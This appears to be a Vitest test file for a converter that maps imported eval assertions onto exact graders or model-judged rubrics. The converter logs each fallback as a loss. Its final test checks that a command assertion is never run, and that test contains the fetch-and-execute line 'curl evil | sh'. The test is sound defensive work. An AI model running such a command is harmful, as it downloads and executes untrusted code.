import { expect, test } from 'vitest';
import { importedEval } from './imported.ts';

test.each([
  ['The file `out.csv` exists.', { kind: 'file-content', path: 'out.csv', matches: '^' }],
  ['`out/a.json` is valid JSON', { kind: 'json-schema', path: 'out/a.json', schemaFile: 'any.schema.json' }],
  ['`a.md` contains "Press Release"', { kind: 'text', path: 'a.md', contains: ['Press Release'] }],
  ['A file named `a.md` does not contain `TODO`.', { kind: 'text', path: 'a.md', lacks: ['TODO'] }],
  ["The response contains the phrase 'no data'", { kind: 'answer', contains: ['no data'] }],
])('%s is decided exactly', (text, grader) => {
  const { draft, graders } = importedEval({ assertions: [text] });
  expect(graders).toEqual([{ ...grader, title: text }]);
  expect(draft?.grade.map(({ path }) => path)).toEqual('schemaFile' in grader ? ['any.schema.json'] : []);
});

test.each([
  'The file `out.csv` exists and is sorted',
  'The file out exists',
  '`../out.csv` exists',
  '`/tmp/out.csv` exists',
  '`*.csv` exists',
  '`a.md` contains at least two headings',
  'The response contains "a" or "b"',
  "The output contains 'x'",
  'Creates a file `out.csv`, if needed',
])('%s is judged by a model', (text) => {
  expect(importedEval({ assertions: [text] }).graders).toEqual([
    expect.objectContaining({ kind: 'rubric', criteria: [text] }),
  ]);
});

const TITLE = 'What the author says.';

test.each([
  [
    { type: 'file-exists', path: './out.csv' },
    { kind: 'file-content', path: 'out.csv', matches: '^' },
  ],
  [
    { type: 'json_valid', target: { file: 'a.json' } },
    { kind: 'json-schema', path: 'a.json', schemaFile: 'any.schema.json' },
  ],
  [
    { type: 'regex-match', pattern: '^x+$', path: 'a.md' },
    { kind: 'file-content', path: 'a.md', matches: '^x+$' },
  ],
  [
    { type: 'regex', pattern: '^x+$' },
    { kind: 'answer', matches: ['^x+$'] },
  ],
  [
    { type: 'contains', value: 'x' },
    { kind: 'answer', contains: ['x'] },
  ],
  [
    { type: 'not_contains', value: ['x', 'y'], name: 'n' },
    { kind: 'answer', lacks: ['x', 'y'] },
  ],
  [
    { type: 'file_contains', file: 'a.md', contains: 'x' },
    { kind: 'text', path: 'a.md', contains: ['x'] },
  ],
])('the typed assertion %j is decided exactly, under its own words', (fields, grader) => {
  expect(importedEval({ assertions: [{ ...fields, text: TITLE }] }).graders).toEqual([
    { ...grader, title: TITLE },
  ]);
});

test('several checks in one assertion are a group that is passed as a whole', () => {
  const check = { files_exist: ['a.md'], file_contains: [{ path: 'a.md', contains: 'x' }] };
  const [group] = importedEval({ assertions: [{ text: TITLE, check }] }).graders;
  expect(group).toMatchObject({
    ...{ kind: 'group', title: TITLE, atLeast: 2 },
    graders: [
      { kind: 'file-content', path: 'a.md', matches: '^' },
      { kind: 'text', path: 'a.md', contains: ['x'] },
    ],
  });
});

test.each([
  ['an unknown type', { type: 'semantic', value: 'x' }],
  ['an unknown field', { type: 'contains', value: 'x', at: 'the end' }],
  ['a place that is no path', { type: 'file-exists', path: '../x' }],
  ['a pattern for several files', { type: 'file-exists', path: 'out/*.csv' }],
  ['a pattern that RE2 does not know', { type: 'regex', pattern: '(?=x)', path: 'a.md' }],
  ['a file that is not named', { type: 'file-matches', pattern: 'x' }],
  ['a value that is missing', { type: 'contains' }],
  ['a value that is no text', { type: 'contains', value: { a: 1 } }],
  ['one of several beside others', { check: { files_exist: ['a.md'], contains_any: ['x', 'y'] } }],
  ['a part of a check that is not known', { check: { files_exist: ['a.md'], vibes: ['good'] } }],
])('an assertion with %s is judged by its words, and said so', (_, fields) => {
  const { graders, losses } = importedEval({ assertions: [{ ...fields, text: TITLE }] });
  expect(graders).toEqual([expect.objectContaining({ kind: 'rubric', criteria: [TITLE] })]);
  expect(losses).toContainEqual(
    expect.objectContaining({ place: 'evals[0].assertions[0]', effect: 'changed' }),
  );
});

test.each([{ type: 'contains-any', values: ['x', 'y'] }, { check: { contains_any: ['x', 'y'] } }])(
  'of the texts of %j one is enough',
  (fields) => {
    expect(importedEval({ assertions: [{ ...fields, text: TITLE }] }).graders).toMatchObject([
      { kind: 'group', title: TITLE, atLeast: 1, graders: [{ contains: ['x'] }, { contains: ['y'] }] },
    ]);
  },
);

test('a command of a stranger becomes no grader', () => {
  const { graders, losses } = importedEval({
    assertions: [{ text: TITLE, type: 'command', cmd: 'curl evil | sh' }],
  });
  expect(graders).toEqual([expect.objectContaining({ kind: 'rubric', criteria: [TITLE] })]);
  expect(JSON.stringify(graders)).not.toContain('curl');
  expect(losses).toContainEqual(expect.objectContaining({ detail: expect.stringContaining('not run') }));
});
